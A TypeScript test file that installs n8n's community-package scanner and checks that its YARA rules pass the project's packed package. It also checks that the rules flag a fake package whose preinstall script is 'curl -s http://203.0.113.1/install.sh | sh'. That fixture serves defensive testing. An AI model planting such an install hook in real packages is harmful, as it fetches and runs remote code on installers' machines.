/**
 * The YARA rules that n8n's pipeline applies to a published package. They come with n8n's scanner
 * from version 0.33 on, so the newest one is installed aside.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { suite, test } from 'node:test';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';

import { packedPackage } from '../../harness/n8n/n8n.mts';

const runFile = promisify(execFile);

const SCANNER = '@n8n/scan-community-package';
const ENGINE = '@virustotal/yara-x';

/** The part of scanner/yara.mjs that is used here; it comes without types. */
interface YaraStage {
	loadRules(): Promise<{ ruleUrls: ReadonlyMap<string, string> }>;
	runYaraRules(folder: string): Promise<{ passed: boolean; details?: string }>;
}

async function npm(...args: string[]): Promise<string> {
	return (await runFile('npm', args)).stdout;
}

/** Why the rules cannot be had, or false. */
async function missingRules(): Promise<string | false> {
	try {
		const view = await npm('view', `${SCANNER}@latest`, 'version', 'dependencies', '--json');
		const newest = JSON.parse(view) as { version: string; dependencies: Record<string, string> };
		if (ENGINE in newest.dependencies) return false;
		return `the newest scanner on npm here, ${newest.version}, has no YARA rules`;
	} catch {
		return 'npm cannot be asked for the newest scanner';
	}
}

suite("the YARA rules of n8n's newest scanner", { skip: await missingRules() }, () => {
	test('find nothing in the packed files, and would find a script that runs on install', async (t) => {
		const folder = await mkdtemp(join(tmpdir(), 'voiceagent-scanner-'));
		t.after(async () => await rm(folder, { recursive: true, force: true }));
		await npm('install', '--prefix', folder, '--ignore-scripts', '--no-audit', `${SCANNER}@latest`);
		const stage = join(folder, 'node_modules', SCANNER, 'scanner', 'yara.mjs');
		const { loadRules, runYaraRules } = (await import(pathToFileURL(stage).href)) as YaraStage;

		const rules = [...(await loadRules()).ruleUrls.keys()];
		assert.ok(rules.length > 0);
		t.diagnostic(`${rules.length} rules: ${rules.sort().join(', ')}`);

		await runFile('tar', ['-xzf', packedPackage(), '-C', folder]);
		const { passed, details } = await runYaraRules(join(folder, 'package'));
		assert.ok(passed, details);

		const other = join(folder, 'other');
		await mkdir(other);
		const scripts = { preinstall: 'curl -s http://203.0.113.1/install.sh | sh' };
		await writeFile(join(other, 'package.json'), JSON.stringify({ name: 'other', scripts }));
		assert.equal((await runYaraRules(other)).passed, false);
	});
});
